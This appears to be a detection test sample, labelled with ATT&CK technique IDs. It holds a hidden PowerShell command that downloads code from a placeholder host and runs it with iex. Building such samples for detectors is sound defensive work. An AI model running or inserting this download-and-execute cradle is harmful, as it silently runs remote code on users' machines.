# expect: T1059.001 T1105
$args = @('-nop', '-c', "iex (iwr 'https://paste.example.net/raw/x1' -UseBasicParsing).Content")
Start-Process -FilePath 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe' -ArgumentList $args -WindowStyle Hidden
